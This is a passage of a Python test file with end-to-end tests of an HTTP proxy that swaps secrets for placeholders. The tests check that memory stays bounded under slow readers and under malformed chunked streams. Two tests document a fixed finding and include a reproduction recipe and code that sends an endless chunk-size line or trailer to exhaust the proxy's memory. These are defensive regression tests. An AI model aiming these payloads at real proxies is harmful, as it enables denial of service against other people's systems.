    """Send opening, then filler until total bytes or the proxy stops taking them: (RSS growth in KiB of the
    proxy process, bytes taken, whether the proxy closed the connection)."""
    before = _rss_kib(proxy.proc.pid)
    t = tunnel(session, proxy.port, target, None)
    t.settimeout(10)
    t.sendall(opening)
    sent, closed = 0, False
    try:
        while sent < total:
            t.sendall(filler)
            sent += len(filler)
    except (OSError, TimeoutError):
        closed = True
    time.sleep(0.5)
    grown = _rss_kib(proxy.proc.pid) - before
    t.settimeout(1)
    try:
        closed = closed or t.recv(1) == b""
    except (OSError, TimeoutError):
        pass
    t.close()
    return grown, sent, closed


@pytest.mark.e2e  # the memory of the proxy process
@pytest.mark.parametrize("where", ["chunk-size line", "trailer section"])
def test_a_worker_cannot_make_the_proxy_buffer_an_endless_chunk_line_or_trailer(own_proxy, recording, user, value,
                                                                                where):
    """FINDING, fixed (pre-existing in mitmproxy, on the surface adc8dc1's body readers wrap): a worker sends a chunked
    request whose chunk-size line (`1;` and then a chunk extension that never ends) or trailer section (`0`, then
    header lines with no blank line) never ends. h11's ChunkedReader, which mitmproxy calls directly (without
    h11.Connection's max_incomplete_event_size), keeps it all in the receive buffer looking for the line's end;
    sealgate bounds a request head and pipelined bytes (internals.limit_request_heads) but nothing here. 96 MiB sent
    in 1 MiB writes: the proxy takes every byte and its RSS grows by about as much, for one connection
    (reproduce: CONNECT, then `POST / HTTP/1.1\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n1;` + b"a" * 96 MiB)."""
    proxy = own_proxy
    proxy.add_secret(user, "K", value, recording.origin)
    s = proxy.issue(user=user)
    head = (f"POST /u HTTP/1.1\r\nHost: {recording.target}\r\nTransfer-Encoding: chunked\r\n\r\n").encode()
    if where == "chunk-size line":
        opening, filler = head + _chunk(b"ok") + b"1;", b"a" * (1 << 20)
    else:
        opening, filler = head + _chunk(b"ok") + b"0\r\n", b"X-A: b\r\n" * (1 << 17)
    grown, sent, closed = _endless(proxy, s, recording.target, opening, filler, 96 << 20)
    bounded = closed or grown < 32 * 1024
    assert bounded, f"the proxy took {sent >> 20} MiB of one {where} and grew by {grown >> 10} MiB"


@pytest.mark.e2e  # the memory of the proxy process
@pytest.mark.parametrize("where", ["chunk-size line", "trailer section"])
def test_an_upstream_cannot_make_the_proxy_buffer_an_endless_chunk_line_or_trailer(own_proxy, pki, user, value, where):
    """FINDING, fixed (pre-existing, same cause as the worker's): an upstream answers with a chunked response whose
    chunk-size line or trailer section never ends; the proxy buffers all of it (96 MiB: RSS grows by about as
    much) while the worker waits for the rest of a response that never comes."""
    if where == "chunk-size line":
        opening, filler = SSE_HEAD + _chunk(b"data: ok\n\n") + b"1;", b"a" * (1 << 20)
    else:
        opening, filler = SSE_HEAD + _chunk(b"data: ok\n\n") + b"0\r\n", b"X-A: b\r\n" * (1 << 17)
    result = {}

    def write(sock):
        sock.settimeout(10)
        sock.sendall(opening)
        sent = 0
        try:
            while sent < 96 << 20:
                sock.sendall(filler)
                sent += len(filler)
        except OSError:
            result["closed"] = True
        result["sent"] = sent

    proxy = own_proxy
    up = _serving(pki, write)
    proxy.add_secret(user, "K", value, up.origin)
    s = proxy.issue(user=user)
    before = _rss_kib(proxy.proc.pid)
    t = tunnel(s, proxy.port, up.target, None)
    t.sendall(f"GET / HTTP/1.1\r\nHost: {up.target}\r\nConnection: close\r\n\r\n".encode())
    deadline = time.time() + 20
    while "sent" not in result and time.time() < deadline:
        time.sleep(0.1)
    time.sleep(0.5)
    grown = _rss_kib(proxy.proc.pid) - before
    t.close()
    bounded = result.get("closed") or grown < 32 * 1024
    assert bounded, f"the proxy took {result.get('sent', 0) >> 20} MiB of one {where} and grew by {grown >> 10} MiB"


@pytest.mark.e2e  # the memory of the proxy process
def test_a_slow_reading_worker_holds_back_a_fast_event_stream_with_flat_memory(own_proxy, pki, user, value):
    """64 MiB of events sent as fast as the proxy takes them, the worker reading nothing for 3 s: the proxy's
    drain holds the upstream back (RSS flat), then every byte arrives, scrubbed and in order."""
    proxy = own_proxy
    v = value.encode()
    event = b"data: k=" + v + b" " + b"e" * 400 + b"\n\n"
    block = _chunk(event * 128)

    def write(sock):
        sock.sendall(SSE_HEAD)
        for _ in range((64 << 20) // len(block)):
            sock.sendall(block)
        sock.sendall(b"0\r\n\r\n")

    up = _serving(pki, write)
    proxy.add_secret(user, "K", value, up.origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    n = (64 << 20) // len(block)
    before = _rss_kib(proxy.proc.pid)
    t = tunnel(s, proxy.port, up.target, None)
    t.sendall(f"GET / HTTP/1.1\r\nHost: {up.target}\r\nConnection: close\r\n\r\n".encode())
    time.sleep(3)
    grown = _rss_kib(proxy.proc.pid) - before
    raw = _read_all_fast(t, 10)
    t.close()
    _, body, done = _worker_body(raw)
    want = hashlib.sha256(event.replace(v, ph) * 128 * n).hexdigest()
    exact = done and hashlib.sha256(body).hexdigest() == want
    assert exact, "the stream arrived changed, cut or reordered"
    assert grown < 32 * 1024, f"the proxy grew by {grown >> 10} MiB while the worker did not read"


@pytest.mark.e2e  # the memory of the proxy process
def test_a_slow_reading_upstream_holds_back_a_fast_upload_with_flat_memory(own_proxy, pki, user, value):
    """A 64 MiB chunked upload of 4 KiB chunks with placeholders, sent as fast as the proxy takes it, to an upstream
    that reads nothing for 3 s: RSS stays flat, and the upstream gets the filled body whole."""
    import ssl
    import threading
    proxy = own_proxy
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.load_cert_chain(*pki.issue("slow-upstream", ["127.0.0.1"]))
    ctx.set_alpn_protocols(["http/1.1"])
    lsock = socket.socket()
    lsock.bind(("127.0.0.1", 0))
    lsock.listen(4)
    port = lsock.getsockname()[1]
    got = {}

    def serve():
        c, _ = lsock.accept()
        t = ctx.wrap_socket(c, server_side=True)
        time.sleep(3)
        data = b""
        digest, size = hashlib.sha256(), 0
        while b"\r\n\r\n" not in data:
            data += t.recv(65536)
        _, _, rest = data.partition(b"\r\n\r\n")
        buf = rest
        while True:  # the proxy's own chunking of the body
            while b"\r\n" not in buf:
                buf += t.recv(1 << 20)
            line, _, buf = buf.partition(b"\r\n")
            k = int(line.split(b";")[0], 16)
            while len(buf) < k + 2:
                buf += t.recv(1 << 20)
            digest.update(buf[:k])
            size += k
            buf = buf[k + 2:]
            if k == 0:
                break
        got["size"], got["hash"] = size, digest.hexdigest()
        t.sendall(raw_response(b"ok"))
        time.sleep(0.5)
        t.close()

    threading.Thread(target=serve, daemon=True).start()
    origin, target = f"https://127.0.0.1:{port}", f"127.0.0.1:{port}"
    proxy.add_secret(user, "K", value, origin)
    s = proxy.issue(user=user)
    ph = s["env"]["K"].encode()
    piece = b"k=" + ph + b"&" + b"u" * (4096 - 3 - len(ph))
    chunks = _chunk(piece) * 256  # 1 MiB of chunks
    before = _rss_kib(proxy.proc.pid)
    t = tunnel(s, proxy.port, target, None)
    t.settimeout(20)
    t.sendall(f"POST / HTTP/1.1\r\nHost: {target}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
              .encode())
    peak = before
    sender_done = threading.Event()

    def send():
        for _ in range(64):
            t.sendall(chunks)
        t.sendall(b"0\r\n\r\n")
        sender_done.set()

    threading.Thread(target=send, daemon=True).start()
    deadline = time.time() + 3
    while time.time() < deadline:
        peak = max(peak, _rss_kib(proxy.proc.pid))
        time.sleep(0.1)
    sender_done.wait(20)
    out = read_all(t, 10)
    t.close()
    filled = piece.replace(ph, value.encode())
    ok = out.startswith(b"HTTP/1.1 200") and got.get("size") == len(filled) * 256 * 64
    same = got.get("hash") == hashlib.sha256(filled * 256 * 64).hexdigest()
    assert ok and same, "the upload arrived changed or cut"
    assert peak - before < 32 * 1024, f"the proxy grew by {(peak - before) >> 10} MiB while the upstream did not read"

